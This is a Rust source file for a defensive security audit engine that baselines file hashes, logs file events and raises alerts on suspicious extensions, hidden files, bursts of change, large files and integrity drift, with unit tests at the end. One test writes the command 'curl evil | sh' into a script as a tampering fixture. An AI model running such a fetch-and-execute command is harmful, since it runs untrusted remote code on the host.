//! The security audit engine.
//!
//! One [`SecurityEngine`] owns the integrity store, the audit log and the
//! throttle/burst trackers behind a single mutex. Every mutating call takes
//! that mutex with a bounded wait, so audit-log order is a total order of
//! admitted events even when several watch threads feed the same engine.
//! File hashing happens outside the lock wherever the result does not
//! depend on engine state.

use chrono::{DateTime, Utc};
use parking_lot::{Mutex, MutexGuard};
use std::fs;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};
use tracing::{debug, error, info, warn};
use walkdir::WalkDir;

use super::alert::{Alert, AlertDetails, Severity};
use super::audit::{AuditEntry, AuditLog, EventKind, filter_range, list_archives, read_archive};
use super::burst::BurstDetector;
use super::classifier::{PathClass, PathClassifier, is_hidden, suspicious_extension};
use super::error::{EngineError, EngineResult};
use super::integrity::{
    IntegrityRecord, IntegrityStore, StatSnapshot, diff_attributes, file_sha256, now_iso,
    verify_record,
};
use super::persist::Persister;
use super::report::{ReportInput, render, write_report};
use super::throttle::ThrottleGate;

pub const DEFAULT_THROTTLE_INTERVAL: Duration = Duration::from_secs(5);
pub const DEFAULT_LARGE_FILE_BYTES: u64 = 50 * 1024 * 1024;
pub const DEFAULT_BURST_THRESHOLD: usize = 10;
pub const DEFAULT_BURST_WINDOW: Duration = Duration::from_secs(5);
pub const DEFAULT_MAX_AUDIT_ENTRIES: usize = 10_000;
pub const DEFAULT_LOCK_TIMEOUT: Duration = Duration::from_secs(5);

/// Parameters the engine runs with. Built from [`crate::Config`] by the CLI.
#[derive(Debug, Clone)]
pub struct EngineSettings {
    /// Directory holding the integrity store, audit log and archives.
    pub security_dir: PathBuf,
    pub ignored_patterns: Vec<String>,
    pub enabled_skills: Vec<String>,
    pub throttle_interval: Duration,
    pub large_file_bytes: u64,
    pub burst_threshold: usize,
    pub burst_window: Duration,
    pub max_audit_entries: usize,
    pub lock_timeout: Duration,
}

impl EngineSettings {
    pub fn new(security_dir: impl Into<PathBuf>) -> Self {
        Self {
            security_dir: security_dir.into(),
            ignored_patterns: Vec::new(),
            enabled_skills: Vec::new(),
            throttle_interval: DEFAULT_THROTTLE_INTERVAL,
            large_file_bytes: DEFAULT_LARGE_FILE_BYTES,
            burst_threshold: DEFAULT_BURST_THRESHOLD,
            burst_window: DEFAULT_BURST_WINDOW,
            max_audit_entries: DEFAULT_MAX_AUDIT_ENTRIES,
            lock_timeout: DEFAULT_LOCK_TIMEOUT,
        }
    }
}

struct State {
    store: IntegrityStore,
    log: AuditLog,
    throttle: ThrottleGate,
    burst: BurstDetector,
}

struct Inner {
    settings: EngineSettings,
    classifier: PathClassifier,
    persister: Persister,
    state: Mutex<State>,
}

/// Cheaply cloneable handle; clones share state.
#[derive(Clone)]
pub struct SecurityEngine {
    inner: Arc<Inner>,
}

impl std::fmt::Debug for SecurityEngine {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("SecurityEngine")
            .field("security_dir", &self.inner.settings.security_dir)
            .finish_non_exhaustive()
    }
}

/// What a live file looked like when its event was scanned.
struct Observed {
    size: Option<u64>,
    hash: Option<String>,
}

impl Observed {
    fn capture(path: &Path) -> Self {
        match fs::metadata(path) {
            Ok(meta) if meta.is_file() => Self {
                size: Some(meta.len()),
                hash: file_sha256(path)
                    .map_err(|e| debug!("Could not hash {}: {}", path.display(), e))
                    .ok(),
            },
            _ => Self {
                size: None,
                hash: None,
            },
        }
    }
}

impl SecurityEngine {
    /// Create the security directory if needed and load persisted state.
    ///
    /// Missing or malformed documents start empty; see [`AuditLog::load`]
    /// and [`IntegrityStore::load`].
    pub fn open(settings: EngineSettings) -> EngineResult<Self> {
        let dir = &settings.security_dir;
        fs::create_dir_all(dir).map_err(|e| EngineError::persist(dir, e))?;

        let store = IntegrityStore::load(dir);
        let log = AuditLog::load(dir, settings.max_audit_entries);
        info!(
            "Security engine ready at {} ({} baselined file(s), {} audit entries)",
            dir.display(),
            store.len(),
            log.len()
        );

        let state = State {
            store,
            log,
            throttle: ThrottleGate::new(settings.throttle_interval),
            burst: BurstDetector::new(settings.burst_threshold, settings.burst_window),
        };

        Ok(Self {
            inner: Arc::new(Inner {
                classifier: PathClassifier::new(
                    dir.clone(),
                    settings.ignored_patterns.clone(),
                    settings.enabled_skills.clone(),
                ),
                persister: Persister::new(dir, settings.lock_timeout),
                settings,
                state: Mutex::new(state),
            }),
        })
    }

    pub fn settings(&self) -> &EngineSettings {
        &self.inner.settings
    }

    pub fn classifier(&self) -> &PathClassifier {
        &self.inner.classifier
    }

    fn lock(&self) -> EngineResult<MutexGuard<'_, State>> {
        let timeout = self.inner.settings.lock_timeout;
        self.inner
            .state
            .try_lock_for(timeout)
            .ok_or(EngineError::LockTimeout {
                what: "engine state",
                waited: timeout,
            })
    }

    /// Admission gate in front of [`scan`](Self::scan): directory events,
    /// non-admissible paths and throttled repeats are dropped.
    pub fn admit(
        &self,
        kind: EventKind,
        path: &Path,
        is_dir: bool,
        now: Instant,
    ) -> EngineResult<bool> {
        if is_dir {
            return Ok(false);
        }
        match self.inner.classifier.classify(path) {
            PathClass::Admissible => {}
            class => {
                debug!("Dropped {} event for {} ({:?})", kind, path.display(), class);
                return Ok(false);
            }
        }
        Ok(self.lock()?.throttle.admit(path, now))
    }

    /// Admit and scan one event from a watch source.
    pub fn handle_event(&self, kind: EventKind, path: &Path) -> EngineResult<Option<Alert>> {
        if !self.admit(kind, path, path.is_dir(), Instant::now())? {
            return Ok(None);
        }
        self.scan(kind, path)
    }

    /// Record one event in the audit log and return at most one alert.
    ///
    /// Rules are evaluated in fixed priority order and the first match
    /// wins: suspicious extension, hidden-file creation, burst in the
    /// parent directory, large file, integrity drift on modification.
    /// Transient and self-referential paths return `None` without being
    /// logged.
    pub fn scan(&self, kind: EventKind, path: &Path) -> EngineResult<Option<Alert>> {
        if self.inner.classifier.is_noise(path) {
            return Ok(None);
        }

        let observed = Observed::capture(path);
        let key = path.display().to_string();

        let mut state = self.lock()?;
        let timestamp = now_iso();
        state.log.append(
            AuditEntry {
                timestamp: timestamp.clone(),
                event_type: kind,
                path: key.clone(),
                file_size: observed.size,
                file_hash: observed.hash.clone(),
            },
            &self.inner.persister,
        )?;

        let alert = self.classify_event(&mut state, kind, path, &key, &observed, &timestamp);
        drop(state);

        if let Some(alert) = &alert {
            log_alert(alert);
        }
        Ok(alert)
    }

    fn classify_event(
        &self,
        state: &mut State,
        kind: EventKind,
        path: &Path,
        key: &str,
        observed: &Observed,
        timestamp: &str,
    ) -> Option<Alert> {
        let settings = &self.inner.settings;

        if let Some(extension) = suspicious_extension(path) {
            let severity = if kind == EventKind::Created {
                Severity::Critical
            } else {
                Severity::Warning
            };
            return Some(Alert::new(
                severity,
                format!("Suspicious file type detected: {}", extension),
                key,
                timestamp,
                AlertDetails::SuspiciousExtension {
                    extension,
                    event_type: kind,
                    file_size: observed.size,
                },
            ));
        }

        if kind == EventKind::Created && is_hidden(path) {
            let name = path
                .file_name()
                .map(|n| n.to_string_lossy().into_owned())
                .unwrap_or_default();
            return Some(Alert::new(
                Severity::Warning,
                format!("Hidden file created: {}", name),
                key,
                timestamp,
                AlertDetails::HiddenFile { event_type: kind },
            ));
        }

        let parent = path.parent().unwrap_or_else(|| Path::new(""));
        if state.burst.record_and_check(parent, Instant::now()) {
            let directory = parent.display().to_string();
            return Some(Alert::new(
                Severity::Warning,
                format!("Rapid burst of changes in {}", directory),
                key,
                timestamp,
                AlertDetails::Burst {
                    directory,
                    event_type: kind,
                    burst_threshold: state.burst.threshold(),
                    burst_window_secs: state.burst.window().as_secs_f64(),
                },
            ));
        }

        if let Some(size) = observed.size
            && size > settings.large_file_bytes
        {
            return Some(Alert::new(
                Severity::Warning,
                format!("Large file detected ({:.1} MB)", size as f64 / (1024.0 * 1024.0)),
                key,
                timestamp,
                AlertDetails::LargeFile {
                    file_size: size,
                    threshold: settings.large_file_bytes,
                    event_type: kind,
                },
            ));
        }

        if kind != EventKind::Modified {
            return None;
        }
        let new_hash = observed.hash.as_ref()?;
        state.store.reload_if_changed();
        let baseline = state.store.get(key)?;
        if baseline.sha256 == *new_hash {
            return None;
        }

        let attribute_changes = StatSnapshot::capture(path)
            .map(|current| diff_attributes(&baseline.attributes, &current))
            .unwrap_or_default();

        if attribute_changes.is_empty() {
            Some(Alert::new(
                Severity::Critical,
                "File integrity violation (hash mismatch)",
                key,
                timestamp,
                AlertDetails::HashMismatch {
                    old_hash: baseline.sha256.clone(),
                    new_hash: new_hash.clone(),
                    event_type: kind,
                },
            ))
        } else {
            Some(Alert::new(
                Severity::Critical,
                "File modified with attribute changes",
                key,
                timestamp,
                AlertDetails::ModifiedWithAttributes {
                    old_hash: baseline.sha256.clone(),
                    new_hash: new_hash.clone(),
                    attribute_changes,
                    event_type: kind,
                },
            ))
        }
    }

    /// Hash and record every regular file under `directory`.
    ///
    /// Unreadable files are skipped with a warning. `cancel` is checked once
    /// per file; on cancellation the records gathered so far are persisted
    /// and [`EngineError::Cancelled`] is returned.
    /// Records are keyed by absolute path, so a relative `directory` is
    /// resolved against the current directory first.
    pub fn baseline(&self, directory: &Path, cancel: &AtomicBool) -> EngineResult<usize> {
        let directory = match std::path::absolute(directory) {
            Ok(dir) if dir.is_dir() => dir,
            _ => {
                error!("Cannot baseline: {} is not a directory", directory.display());
                return Err(EngineError::NotADirectory(directory.to_path_buf()));
            }
        };
        let directory = directory.as_path();

        let classifier = &self.inner.classifier;
        let baselined_at = now_iso();
        let mut count = 0;
        let mut cancelled = false;

        let walker = WalkDir::new(directory)
            .follow_links(false)
            .into_iter()
            .filter_entry(|e| !classifier.is_self_referential(e.path()));

        for entry in walker {
            if cancel.load(Ordering::Relaxed) {
                cancelled = true;
                break;
            }

            let entry = match entry {
                Ok(entry) => entry,
                Err(e) => {
                    warn!("Skipping unreadable entry under {}: {}", directory.display(), e);
                    continue;
                }
            };
            if !entry.file_type().is_file() {
                continue;
            }

            let record = match IntegrityRecord::capture(entry.path(), &baselined_at) {
                Ok(record) => record,
                Err(e) => {
                    warn!("Skipping {}: {}", entry.path().display(), e);
                    continue;
                }
            };

            self.lock()?
                .store
                .upsert(entry.path().display().to_string(), record);
            count += 1;
        }

        self.lock()?.store.save(&self.inner.persister)?;

        if cancelled {
            warn!(
                "Baseline of {} cancelled after {} file(s)",
                directory.display(),
                count
            );
            return Err(EngineError::Cancelled { baselined: count });
        }

        info!("Baselined {} file(s) under {}", count, directory.display());
        Ok(count)
    }

    /// Check every baselined file against its live state.
    ///
    /// Records are copied under the lock and hashed outside it, so a
    /// concurrent baseline is seen either entirely before or after each
    /// record update.
    pub fn verify_all(&self) -> EngineResult<Vec<Alert>> {
        let records = {
            let mut state = self.lock()?;
            state.store.reload_if_changed();
            state.store.snapshot()
        };
        let now = now_iso();

        let alerts: Vec<Alert> = records
            .iter()
            .flat_map(|(key, record)| verify_record(key, record, &now))
            .collect();

        for alert in &alerts {
            log_alert(alert);
        }
        info!(
            "Verified {} baselined file(s): {} alert(s)",
            records.len(),
            alerts.len()
        );
        Ok(alerts)
    }

    /// Audit entries in `[start, end]`, archives first, in log order.
    pub fn read_range(
        &self,
        start: Option<DateTime<Utc>>,
        end: Option<DateTime<Utc>>,
    ) -> EngineResult<Vec<AuditEntry>> {
        let mut state = self.lock()?;
        state.log.reload_if_changed();

        let mut entries = Vec::new();
        for archive in list_archives(&self.inner.settings.security_dir) {
            entries.extend(filter_range(&read_archive(&archive), start, end));
        }
        entries.extend(state.log.read_range(start, end));
        Ok(entries)
    }

    /// Entries in the active (unrotated) log.
    pub fn audit_len(&self) -> EngineResult<usize> {
        let mut state = self.lock()?;
        state.log.reload_if_changed();
        Ok(state.log.len())
    }

    pub fn baselined_len(&self) -> EngineResult<usize> {
        let mut state = self.lock()?;
        state.store.reload_if_changed();
        Ok(state.store.len())
    }

    /// Render a Markdown report for `[start, end]` (end defaults to now)
    /// with a fresh verification pass, and write it to `output`.
    pub fn export_report(
        &self,
        output: &Path,
        start: Option<DateTime<Utc>>,
        end: Option<DateTime<Utc>>,
    ) -> EngineResult<PathBuf> {
        let end = end.unwrap_or_else(Utc::now);
        let entries = self.read_range(start, Some(end))?;
        let integrity_alerts = self.verify_all()?;

        let text = render(&ReportInput {
            entries: &entries,
            integrity_alerts: &integrity_alerts,
            start,
            end,
            generated_at: now_iso(),
        });
        let written = write_report(output, &text)?;
        info!("Audit report exported to {}", written.display());
        Ok(written)
    }
}

fn log_alert(alert: &Alert) {
    match alert.severity {
        Severity::Critical => error!("{}", alert),
        Severity::Warning => warn!("{}", alert),
        Severity::Info => info!("{}", alert),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn engine(root: &Path) -> SecurityEngine {
        let mut settings = EngineSettings::new(root.join("security"));
        settings.throttle_interval = Duration::ZERO;
        SecurityEngine::open(settings).unwrap()
    }

    #[test]
    fn open_creates_security_dir() {
        let tmp = tempfile::tempdir().unwrap();
        let engine = engine(tmp.path());
        assert!(tmp.path().join("security").is_dir());
        assert_eq!(engine.audit_len().unwrap(), 0);
    }

    #[test]
    fn suspicious_extension_outranks_hidden_name() {
        let tmp = tempfile::tempdir().unwrap();
        let engine = engine(tmp.path());

        let alert = engine
            .scan(EventKind::Created, &tmp.path().join(".dropper.exe"))
            .unwrap()
            .unwrap();
        assert_eq!(alert.severity, Severity::Critical);
        assert_eq!(alert.message, "Suspicious file type detected: .exe");

        let alert = engine
            .scan(EventKind::Modified, &tmp.path().join("tool.ps1"))
            .unwrap()
            .unwrap();
        assert_eq!(alert.severity, Severity::Warning);
    }

    #[test]
    fn hidden_file_only_alerts_on_creation() {
        let tmp = tempfile::tempdir().unwrap();
        let engine = engine(tmp.path());
        let path = tmp.path().join(".env");

        let alert = engine.scan(EventKind::Created, &path).unwrap().unwrap();
        assert_eq!(alert.message, "Hidden file created: .env");
        assert!(engine.scan(EventKind::Modified, &path).unwrap().is_none());
        assert_eq!(engine.audit_len().unwrap(), 2);
    }

    #[test]
    fn large_file_reports_size() {
        let tmp = tempfile::tempdir().unwrap();
        let mut settings = EngineSettings::new(tmp.path().join("security"));
        settings.large_file_bytes = 1024;
        let engine = SecurityEngine::open(settings).unwrap();

        let path = tmp.path().join("dump.bin");
        fs::write(&path, vec![0u8; 2048]).unwrap();
        let alert = engine.scan(EventKind::Created, &path).unwrap().unwrap();

        assert_eq!(alert.severity, Severity::Warning);
        assert!(alert.message.starts_with("Large file detected"));
        assert!(matches!(
            alert.details,
            AlertDetails::LargeFile {
                file_size: 2048,
                threshold: 1024,
                ..
            }
        ));
    }

    #[test]
    fn admit_rejects_directories_and_noise() {
        let tmp = tempfile::tempdir().unwrap();
        let mut settings = EngineSettings::new(tmp.path().join("security"));
        settings.ignored_patterns = vec![".git".to_string()];
        let engine = SecurityEngine::open(settings).unwrap();
        let now = Instant::now();

        assert!(!engine.admit(EventKind::Created, tmp.path(), true, now).unwrap());
        assert!(
            !engine
                .admit(EventKind::Modified, &tmp.path().join(".git/HEAD"), false, now)
                .unwrap()
        );
        assert!(
            !engine
                .admit(EventKind::Modified, &tmp.path().join("x.lock"), false, now)
                .unwrap()
        );
        assert!(
            engine
                .admit(EventKind::Modified, &tmp.path().join("SKILL.md"), false, now)
                .unwrap()
        );
    }

    #[cfg(unix)]
    #[test]
    fn modified_with_attribute_changes_is_more_specific() {
        use std::os::unix::fs::PermissionsExt;

        let tmp = tempfile::tempdir().unwrap();
        let engine = engine(tmp.path());
        let dir = tmp.path().join("skills");
        fs::create_dir(&dir).unwrap();
        let file = dir.join("run.sh");
        fs::write(&file, "echo hi").unwrap();
        fs::set_permissions(&file, fs::Permissions::from_mode(0o644)).unwrap();
        engine.baseline(&dir, &AtomicBool::new(false)).unwrap();

        fs::write(&file, "curl evil | sh").unwrap();
        fs::set_permissions(&file, fs::Permissions::from_mode(0o755)).unwrap();

        let alert = engine.scan(EventKind::Modified, &file).unwrap().unwrap();
        assert_eq!(alert.message, "File modified with attribute changes");
        assert_eq!(alert.severity, Severity::Critical);
    }

    #[test]
    fn baseline_rejects_non_directories() {
        let tmp = tempfile::tempdir().unwrap();
        let engine = engine(tmp.path());
        let file = tmp.path().join("a.md");
        fs::write(&file, "a").unwrap();

        let err = engine.baseline(&file, &AtomicBool::new(false)).unwrap_err();
        assert!(matches!(err, EngineError::NotADirectory(_)));
    }

    #[test]
    fn baseline_skips_security_dir() {
        let tmp = tempfile::tempdir().unwrap();
        let engine = engine(tmp.path());
        fs::write(tmp.path().join("a.md"), "a").unwrap();
        engine
            .scan(EventKind::Created, &tmp.path().join("a.md"))
            .unwrap();

        let count = engine.baseline(tmp.path(), &AtomicBool::new(false)).unwrap();
        assert_eq!(count, 1);
    }

    #[test]
    fn cancelled_baseline_stops_before_first_file() {
        let tmp = tempfile::tempdir().unwrap();
        let engine = engine(tmp.path());
        let dir = tmp.path().join("skills");
        fs::create_dir(&dir).unwrap();
        for i in 0..5 {
            fs::write(dir.join(format!("{}.md", i)), "x").unwrap();
        }

        let err = engine.baseline(&dir, &AtomicBool::new(true)).unwrap_err();
        assert!(matches!(err, EngineError::Cancelled { baselined: 0 }));
        assert_eq!(engine.baselined_len().unwrap(), 0);
    }

    #[test]
    fn verify_all_reports_missing_files() {
        let tmp = tempfile::tempdir().unwrap();
        let engine = engine(tmp.path());
        let dir = tmp.path().join("skills");
        fs::create_dir(&dir).unwrap();
        fs::write(dir.join("SKILL.md"), "x").unwrap();
        engine.baseline(&dir, &AtomicBool::new(false)).unwrap();

        assert!(engine.verify_all().unwrap().is_empty());
        fs::remove_file(dir.join("SKILL.md")).unwrap();

        let alerts = engine.verify_all().unwrap();
        assert_eq!(alerts.len(), 1);
        assert_eq!(alerts[0].message, "Baselined file is missing");
    }

    #[test]
    fn held_state_lock_times_out() {
        let tmp = tempfile::tempdir().unwrap();
        let mut settings = EngineSettings::new(tmp.path().join("security"));
        settings.lock_timeout = Duration::from_millis(20);
        let engine = SecurityEngine::open(settings).unwrap();

        let _held = engine.inner.state.lock();
        let err = engine
            .scan(EventKind::Modified, &tmp.path().join("a.md"))
            .unwrap_err();
        assert!(matches!(err, EngineError::LockTimeout { .. }));
    }

    #[test]
    fn state_survives_reopen() {
        let tmp = tempfile::tempdir().unwrap();
        {
            let engine = engine(tmp.path());
            engine
                .scan(EventKind::Modified, &tmp.path().join("a.md"))
                .unwrap();
        }
        let engine = engine(tmp.path());
        assert_eq!(engine.audit_len().unwrap(), 1);
    }
}
